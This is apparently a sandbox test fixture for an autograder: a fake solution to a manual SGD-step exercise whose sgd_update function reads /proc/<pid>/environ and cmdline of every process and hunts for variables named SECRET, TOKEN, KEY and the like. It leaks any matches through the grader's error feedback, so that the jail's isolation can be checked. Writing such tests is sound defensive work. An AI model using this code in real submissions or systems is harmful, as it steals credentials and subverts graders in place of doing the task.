# attack: read /proc/<pid>/environ and cmdline of every process it can see (itself included, after prctl(PR_SET_DUMPABLE)), hunting for the grader's secrets and paths, and leak them through the feedback
# holds: no variable of the grader's environment that the jail removes (e.g. the test's GRADER_ATTACK_SECRET) is readable from the worker or reaches any result
"""Exercise 3: A manual SGD step (attacker: reads environments)."""

import ctypes
import os

BREACH = "BRE" "ACH!"
PR_SET_DUMPABLE = 4
JUICY = ("SECRET", "TOKEN", "KEY", "PASS", "AUTH", "CRED")


def _attack() -> list[str]:
    notes = []
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)  # /proc/self/environ is root's after a change of uid
    for entry in sorted(os.listdir("/proc")):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                found = dict(v.decode(errors="replace").partition("=")[::2] for v in f.read().split(b"\0") if v)
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError as exc:
            notes.append(f"pid {entry}: {exc.strerror}")
            continue
        extra = {k: v for k, v in found.items() if os.environ.get(k) != v}
        juicy = {k: v for k, v in extra.items() if any(w in k.upper() for w in JUICY)}
        if extra:
            notes.append(f"{BREACH} pid {entry}'s environ holds {len(extra)} variables the jail took away: {juicy}"
                         f" {sorted(extra)[:40]}")
        notes.append(f"pid {entry} cmdline: {cmdline[:300]}")
    return notes


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + " | ".join(_attack()))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
